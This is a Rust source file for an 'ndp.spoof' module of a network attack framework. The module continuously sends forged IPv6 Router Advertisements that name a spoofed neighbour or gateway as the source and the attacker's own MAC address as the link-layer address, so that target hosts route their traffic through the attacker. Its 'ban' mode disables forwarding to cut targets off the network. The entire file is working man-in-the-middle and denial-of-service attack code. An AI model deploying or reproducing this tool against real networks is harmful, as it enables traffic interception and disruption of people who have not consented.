//! NDP spoofer
//!
//! Sends every IPv6 target a unicast Router Advertisement whose source is the
//! spoofed neighbour address and whose link-layer address is ours. There is
//! no restore pass: advertisements age out through their router lifetime.

use async_trait::async_trait;
use netspoof_core::{Error, ParamDescriptor, ParameterType, Result, Session};
use netspoof_module::{Handler, Lifecycle, Module, WorkerContext};
use netspoof_packet::{router_advertisement_frame, RouterAdvertisement, RouterPreference};
use parking_lot::RwLock;
use std::net::{IpAddr, Ipv6Addr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tracing::{debug, error, info, warn};

use crate::targets::{TargetExpr, TargetSet};

pub const NAME: &str = "ndp.spoof";

pub const PARAM_TARGETS: &str = "ndp.spoof.targets";
pub const PARAM_NEIGHBOUR: &str = "ndp.spoof.neighbour";
pub const PARAM_GATEWAY: &str = "ndp.spoof.gateway";
pub const PARAM_PREFIX: &str = "ndp.spoof.prefix";
pub const PARAM_PREFIX_LENGTH: &str = "ndp.spoof.prefix.length";

const DEFAULT_NEIGHBOUR: &str = "fe80::1";
const DEFAULT_PREFIX: &str = "d00d::";
const DEFAULT_PREFIX_LENGTH: &str = "64";
const LINK_MTU: u32 = 1500;
const DEFAULT_PERIOD: Duration = Duration::from_secs(1);

#[derive(Debug, Clone)]
struct NdpConfig {
    targets: TargetSet,
    neighbour: Ipv6Addr,
    prefix: Ipv6Addr,
    prefix_len: u8,
}

impl Default for NdpConfig {
    fn default() -> Self {
        Self {
            targets: TargetSet::new(),
            neighbour: Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 1),
            prefix: Ipv6Addr::new(0xd00d, 0, 0, 0, 0, 0, 0, 0),
            prefix_len: 64,
        }
    }
}

#[derive(Clone)]
struct Advertiser {
    session: Arc<Session>,
    config: Arc<NdpConfig>,
}

impl Advertiser {
    fn advertisement(&self) -> RouterAdvertisement {
        RouterAdvertisement::new()
            .with_hop_limit(255)
            .with_preference(RouterPreference::High)
            .with_source_ll(self.session.own_mac())
            .with_mtu(LINK_MTU)
            .with_prefix(self.config.prefix, self.config.prefix_len)
    }

    /// Send one advertisement to every target that resolves
    async fn advertise(&self, ctx: Option<&WorkerContext>) {
        let ra = self.advertisement();
        let own_mac = self.session.own_mac();
        let neighbour = self.config.neighbour;

        for victim in self.config.targets.resolve(&self.session, true).await {
            if ctx.is_some_and(|c| !c.is_running()) {
                return;
            }
            let IpAddr::V6(victim_ip) = victim.ip else {
                continue;
            };

            debug!(
                neighbour = %neighbour,
                victim_ip = %victim_ip,
                victim_mac = %victim.mac,
                "Sending router advertisement"
            );
            let frame = router_advertisement_frame(own_mac, neighbour, victim.mac, victim_ip, &ra);
            if let Err(e) = self.session.sender.send(&frame) {
                error!(error = %e, "Error while sending packet");
            }
        }
    }

    async fn run(self, ctx: WorkerContext, period: Duration) -> Result<()> {
        info!(
            targets = self.config.targets.len(),
            neighbour = %self.config.neighbour,
            "NDP spoofer started"
        );
        while ctx.is_running() {
            self.advertise(Some(&ctx)).await;
            if !ctx.tick(period).await {
                break;
            }
        }
        Ok(())
    }
}

/// The `ndp.spoof` module
pub struct NdpSpoofer {
    session: Arc<Session>,
    lifecycle: Lifecycle,
    config: RwLock<Arc<NdpConfig>>,
    ban: AtomicBool,
    period: Duration,
}

impl NdpSpoofer {
    pub fn new(session: Arc<Session>) -> Self {
        let spoofer = Self {
            lifecycle: Lifecycle::new(NAME),
            config: RwLock::new(Arc::new(NdpConfig::default())),
            ban: AtomicBool::new(false),
            period: DEFAULT_PERIOD,
            session,
        };
        for param in spoofer.parameters() {
            spoofer.session.params.register(param);
        }
        spoofer
    }

    pub fn with_period(mut self, period: Duration) -> Self {
        self.period = period;
        self
    }

    pub fn is_ban(&self) -> bool {
        self.ban.load(Ordering::SeqCst)
    }

    fn advertiser(&self) -> Advertiser {
        Advertiser {
            session: Arc::clone(&self.session),
            config: Arc::clone(&self.config.read()),
        }
    }

    pub async fn start_ban(&self) -> Result<()> {
        self.lifecycle.ensure_stopped()?;
        self.ban.store(true, Ordering::SeqCst);
        let result = self.start().await;
        if result.is_err() {
            self.ban.store(false, Ordering::SeqCst);
        }
        result
    }

    fn ipv6_param(&self, name: &str) -> Result<Ipv6Addr> {
        match self.session.params.ip(name)? {
            IpAddr::V6(v6) => Ok(v6),
            IpAddr::V4(v4) => Err(Error::invalid_parameter(
                name,
                format!("{} is not an IPv6 address", v4),
            )),
        }
    }

    fn neighbour(&self) -> Result<Ipv6Addr> {
        if self.session.params.string(PARAM_GATEWAY)?.is_empty() {
            self.ipv6_param(PARAM_NEIGHBOUR)
        } else {
            self.ipv6_param(PARAM_GATEWAY)
        }
    }
}

/// Targets are plain IPv6 addresses, no ranges or aliases
fn parse_ipv6_targets(items: &[String]) -> Result<TargetSet> {
    let mut set = TargetSet::new();
    for item in items {
        match item.parse::<Ipv6Addr>() {
            Ok(ip) => set.insert(TargetExpr::Address(IpAddr::V6(ip))),
            Err(_) => return Err(Error::InvalidTarget(item.clone())),
        }
    }
    Ok(set)
}

#[async_trait]
impl Module for NdpSpoofer {
    fn name(&self) -> &str {
        NAME
    }

    fn description(&self) -> &str {
        "Keep spoofing selected hosts on the network by sending spoofed NDP router advertisements."
    }

    fn parameters(&self) -> Vec<ParamDescriptor> {
        vec![
            ParamDescriptor::new(PARAM_TARGETS, ParameterType::List)
                .with_description("Comma separated list of IPv6 addresses to spoof."),
            ParamDescriptor::new(PARAM_NEIGHBOUR, ParameterType::IpAddr)
                .with_default(DEFAULT_NEIGHBOUR)
                .with_description("Neighbour IPv6 address to spoof."),
            ParamDescriptor::new(PARAM_GATEWAY, ParameterType::String)
                .with_description("Same as ndp.spoof.neighbour, takes precedence when set."),
            ParamDescriptor::new(PARAM_PREFIX, ParameterType::IpAddr)
                .with_default(DEFAULT_PREFIX)
                .with_description("IPv6 prefix announced in the router advertisements."),
            ParamDescriptor::new(PARAM_PREFIX_LENGTH, ParameterType::U32)
                .with_default(DEFAULT_PREFIX_LENGTH)
                .with_description("Length of the announced prefix."),
        ]
    }

    fn running(&self) -> bool {
        self.lifecycle.is_running()
    }

    async fn configure(&self) -> Result<()> {
        self.lifecycle.ensure_stopped()?;

        let neighbour = self.neighbour()?;
        let prefix = self.ipv6_param(PARAM_PREFIX)?;
        let prefix_len = self.session.params.u32(PARAM_PREFIX_LENGTH)?;
        let prefix_len = u8::try_from(prefix_len)
            .ok()
            .filter(|len| *len <= 128)
            .ok_or_else(|| {
                Error::invalid_parameter(PARAM_PREFIX_LENGTH, "must be between 0 and 128")
            })?;
        let targets = parse_ipv6_targets(&self.session.params.list(PARAM_TARGETS)?)?;

        debug!(addresses = ?targets.addresses(), neighbour = %neighbour, "Configured");

        let forwarding = &self.session.forwarding;
        if self.is_ban() {
            warn!("Running in ban mode, forwarding not enabled");
            forwarding.enable_forwarding(false)?;
        } else if !forwarding.is_forwarding_enabled() {
            info!("Enabling forwarding");
            forwarding.enable_forwarding(true)?;
        }

        *self.config.write() = Arc::new(NdpConfig {
            targets,
            neighbour,
            prefix,
            prefix_len,
        });
        Ok(())
    }

    async fn start(&self) -> Result<()> {
        let period = self.period;
        self.lifecycle
            .start(self.configure(), |ctx| {
                let advertiser = self.advertiser();
                if advertiser.config.targets.is_empty() {
                    warn!("List of targets is empty, nothing to spoof");
                }
                advertiser.run(ctx, period)
            })
            .await
            .map(|_| ())
    }

    async fn stop(&self) -> Result<()> {
        self.lifecycle
            .stop(async {
                info!("Waiting for NDP spoofer to stop");
                self.ban.store(false, Ordering::SeqCst);
            })
            .await
    }

    fn handlers(&self) -> Vec<Handler> {
        vec![
            Handler::new("ndp.spoof on", "Start NDP spoofer."),
            Handler::new(
                "ndp.ban on",
                "Start NDP spoofer in ban mode, meaning the target(s) connectivity will not work.",
            ),
            Handler::new("ndp.spoof off", "Stop NDP spoofer."),
            Handler::new("ndp.ban off", "Stop NDP spoofer."),
        ]
    }

    async fn handle(&self, command: &str) -> Result<()> {
        match command {
            "ndp.spoof on" => self.start().await,
            "ndp.ban on" => self.start_ban().await,
            "ndp.spoof off" | "ndp.ban off" => self.stop().await,
            other => Err(Error::UnknownCommand(other.to_string())),
        }
    }
}
